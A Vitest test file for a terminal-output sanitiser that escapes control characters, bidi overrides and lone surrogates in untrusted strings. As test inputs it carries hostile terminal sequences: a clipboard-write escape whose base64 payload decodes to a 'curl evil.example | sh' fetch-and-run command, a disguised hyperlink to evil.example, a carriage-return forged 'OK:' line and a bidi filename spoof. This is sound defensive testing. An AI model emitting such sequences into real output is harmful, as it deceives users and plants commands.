import { describe, expect, it } from 'vitest';
import {
  terminalField,
  terminalGuard,
  terminalJson,
  terminalText,
} from '../../kit/terminal-text.js';

// Every code point a terminal could act on: C0 but \n and \t, DEL, C1,
// bidi controls, line/paragraph separators, lone surrogates.
const UNSAFE_IN_TEXT =
  /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]/u;

describe('terminalText and terminalField', () => {
  it('escapes ESC as \\e: a colour, a screen clear', () => {
    expect(terminalText('\x1b[31mred\x1b[0m')).toBe('\\e[31mred\\e[0m');
    expect(terminalField('eth0\x1b[2J\x1b[H')).toBe('eth0\\e[2J\\e[H');
  });

  it('defuses OSC 52 (clipboard) and OSC 8 (disguised link)', () => {
    const osc52 = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
    expect(terminalField(osc52)).toBe('\\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07');
    const osc8 = '\x1b]8;;https://evil.example/\x1b\\docs.example\x1b]8;;\x1b\\';
    const out = terminalField(osc8);
    // ST is ESC + `\`: that backslash is then plain text, not an escape.
    expect(out).toBe('\\e]8;;https://evil.example/\\e\\docs.example\\e]8;;\\e\\');
    expect(out).not.toMatch(UNSAFE_IN_TEXT);
  });

  it('escapes \\r, so a field cannot overwrite its line with a forged OK:', () => {
    expect(terminalField('bad.tar.gz\rOK: good.tar.gz')).toBe('bad.tar.gz\\x0dOK: good.tar.gz');
    expect(terminalText('x\rOK: y\n')).toBe('x\\x0dOK: y\n');
  });

  it('escapes C1 controls (8-bit CSI), DEL, BEL and backspace as \\xHH', () => {
    expect(terminalField('a\x9b2Jb')).toBe('a\\x9b2Jb');
    expect(terminalField('\x7f\x07\x08\x00')).toBe('\\x7f\\x07\\x08\\x00');
    expect(terminalField('\x80\x9f\xa0')).toBe('\\x80\\x9f\xa0');
  });

  it('escapes bidi overrides and isolates as \\u{…}', () => {
    expect(terminalField('eth0\u202egpj.exe')).toBe('eth0\\u{202e}gpj.exe');
    expect(terminalField('\u202a\u202d\u2066\u2069\u200f')).toBe(
      '\\u{202a}\\u{202d}\\u{2066}\\u{2069}\\u{200f}',
    );
  });

  it('escapes lone surrogates, keeps paired ones', () => {
    expect(terminalField('a\ud800b')).toBe('a\\u{d800}b');
    expect(terminalField('a\udc00')).toBe('a\\u{dc00}');
    expect(terminalField('ok 😀')).toBe('ok 😀');
  });

  it('leaves plain UTF-8 untouched', () => {
    for (const s of ['café', '日本語のホスト', 'enP30832s1', 'naïve — “quoted” · ↑ → ✔'])
      expect(terminalField(s)).toBe(s);
  });

  it('keeps \\n and \\t in text, escapes them in a field', () => {
    expect(terminalText('a\tb\nc\n')).toBe('a\tb\nc\n');
    expect(terminalField('a\tb\nOK: c')).toBe('a\\x09b\\x0aOK: c');
  });

  it('doubles a backslash only where it would read as an escape', () => {
    // A literal "\e" is not ESC, and a backslash before an escape stays one.
    expect(terminalField('\\e[31m')).toBe('\\\\e[31m');
    expect(terminalField('\\\x1b')).toBe('\\\\\\e');
    expect(terminalField('a\\\\b')).toBe('a\\\\\\b');
    expect(terminalField('\\x41 \\u{41}')).toBe('\\\\x41 \\\\u{41}');
    // Elsewhere it is left alone: Windows paths, regexes, \n in a message.
    expect(terminalField('C:\\Temp\\bundle')).toBe('C:\\Temp\\bundle');
    expect(terminalField('C:\\xyz \\u001b \\x4 \\ufffd')).toBe('C:\\xyz \\u001b \\x4 \\ufffd');
    expect(terminalField('\\xAB \\xab \\u{')).toBe('\\\\xAB \\\\xab \\\\u{');
    expect(terminalText('match \\d+ and \\n')).toBe('match \\d+ and \\n');
  });

  it('is unambiguous: the documented scheme decodes back to the input', () => {
    // A reader's decoder for the scheme in kit/terminal-text.ts.
    const decode = (s: string) =>
      s.replace(/\\(\\|e|x([0-9a-fA-F]{2})|u\{([0-9a-f]+)\})/g, (_m, what, hex, code) =>
        what === '\\'
          ? '\\'
          : what === 'e'
            ? '\x1b'
            : String.fromCodePoint(parseInt(hex ?? code, 16)),
      );
    const alphabet = [
      '\\',
      'e',
      'x',
      'u',
      '{',
      '}',
      '1',
      'b',
      'F',
      '\x1b',
      '\n',
      '\t',
      '\r',
      '\x9b',
      '\u202e',
      'é',
    ];
    let seed = 7;
    const next = () => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return seed;
    };
    for (let n = 0; n < 5000; n++) {
      let input = '';
      for (let i = next() % 14; i > 0; i--) input += alphabet[next() % alphabet.length];
      expect(decode(terminalField(input))).toBe(input);
      expect(decode(terminalText(input))).toBe(input);
    }
  });

  it('never leaves a character a terminal would act on', () => {
    let all = '';
    for (let c = 0; c < 0x300; c++) all += String.fromCharCode(c);
    all += '\u061c\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069';
    expect(terminalField(all)).not.toMatch(UNSAFE_IN_TEXT);
    expect(terminalField(all)).not.toMatch(/[\n\t]/);
    expect(terminalText(all)).not.toMatch(UNSAFE_IN_TEXT);
  });

  it('takes whatever an archive put where a string was expected', () => {
    expect(terminalField(42 as unknown as string)).toBe('42');
  });
});

describe('terminalGuard', () => {
  it('escapes controls left in text, and is a no-op on escaped text', () => {
    expect(terminalGuard('a\x1b[2Jb\n')).toBe('a\\e[2Jb\n');
    const escaped = terminalText('\\e and \x1b and \x9b\n');
    expect(terminalGuard(escaped)).toBe(escaped);
  });

  it('oneLine: escapes newline and tab too, still leaving backslashes alone', () => {
    expect(terminalGuard('a\\e\nOK: b\tc', { oneLine: true })).toBe('a\\e\\x0aOK: b\\x09c');
    const line = terminalField('x\n\x1b');
    expect(terminalGuard(line, { oneLine: true })).toBe(line);
  });
});

describe('terminalJson', () => {
  it('escapes what JSON.stringify leaves raw, and stays the same JSON', () => {
    const value = {
      iface: 'eth0\x1b]52;c;eA==\x07',
      csi: 'a\x9b2J',
      bidi: 'x\u202ey',
      del: '\x7f',
      sep: '\u2028',
      lone: 'a\ud800',
      plain: 'café 日本',
    };
    const json = terminalJson(JSON.stringify(value, null, 2));
    expect(json).not.toMatch(UNSAFE_IN_TEXT);
    // Pretty-printed: newlines between members, none inside a string.
    expect(json).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f]/u);
    expect(json).toContain('\\u009b');
    expect(json).toContain('\\u202e');
    expect(json).toContain('\\ud800');
    expect(json).toContain('café 日本');
    expect(JSON.parse(json)).toEqual(value);
  });
});
